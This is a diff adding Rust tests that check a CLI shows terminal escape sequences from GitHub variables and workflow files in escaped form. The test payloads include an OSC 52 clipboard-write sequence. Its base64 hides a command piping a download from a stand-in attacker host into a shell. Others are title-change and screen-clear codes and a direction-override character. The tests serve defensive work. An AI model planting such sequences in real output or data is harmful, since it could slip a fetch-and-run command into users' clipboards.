@@ -127,3 +127,76 @@ async fn a_scope_with_a_line_break_is_refused_at_its_field() {
     assert!(err.contains("control characters"), "{err}");
     assert!(!cli.state().exists(), "no setup recorded");
 }
+
+const OSC_TITLE: &str = "\x1b]0;pwned\x07";
+const OSC_CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
+
+/// Sets the repository variable `name` of octo-org/widgets (as `gh variable set` does).
+async fn set_variable(sb: &SandboxHandle, name: &str, value: &str) {
+    let (status, body) = common::github_request(
+        sb,
+        reqwest::Method::PATCH,
+        &format!("/repos/octo-org/widgets/actions/variables/{name}"),
+        Some(serde_json::json!({ "name": name, "value": value })),
+    )
+    .await;
+    assert_eq!(status, 204, "{name}: {body}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn terminal_sequences_in_variables_never_reach_the_terminal() {
+    let sb = common::start_sandbox("complete").await;
+    let cli = tree(&sb).await;
+    set_variable(&sb, "AWS_REGION", OSC_TITLE).await;
+    set_variable(&sb, "AWS_ROLE_ARN", OSC_CLIPBOARD).await;
+    let status = cli.run(&["status"]).await;
+    assert_clean(&status);
+    let shown = String::from_utf8_lossy(&status.stdout);
+    assert!(
+        shown.contains("\\x1b]0;pwned\\x07"),
+        "shown escaped:\n{shown}"
+    );
+    let doctor = cli.run(&["doctor", "oidc"]).await;
+    assert_clean(&doctor);
+    let shown = String::from_utf8_lossy(&doctor.stdout);
+    assert!(shown.contains("\\x1b]52;c;"), "shown escaped:\n{shown}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn json_output_keeps_the_value_and_no_raw_control_character() {
+    let sb = common::start_sandbox("complete").await;
+    let cli = tree(&sb).await;
+    let hostile = "us-east-1\u{9b}2J\u{202e}";
+    set_variable(&sb, "AWS_REGION", hostile).await;
+    let out = cli.run(&["status", "--json"]).await;
+    assert_clean(&out);
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
+    let all = doc.to_string();
+    assert!(all.contains(hostile), "the value itself survives: {all}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn workflow_lint_shows_escapes_in_lines_and_values() {
+    let sb = common::start_sandbox("complete").await;
+    let cli = tree(&sb).await;
+    // A YAML escape (the value holds ESC and BEL) and a raw ESC in a comment.
+    let hostile = BROKEN
+        .replace("aws-region: eu-west-1", "aws-region: \"\\e]0;pwned\\a\"")
+        .replace("name: Publish", "name: Publish # \x1b[2J\x1b]52;c;eA==\x07");
+    write_workflow(&cli, "publish.yml", &hostile);
+    let out = cli.run(&["workflow", "lint"]).await;
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    assert_clean(&out);
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        shown.contains("]0;pwned"),
+        "the value is shown, escaped:\n{shown}"
+    );
+    let out = cli.run(&["workflow", "write"]).await;
+    assert_clean(&out);
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        shown.contains("\\x1b[2J"),
+        "the diff shows the line escaped:\n{shown}"
+    );
+}
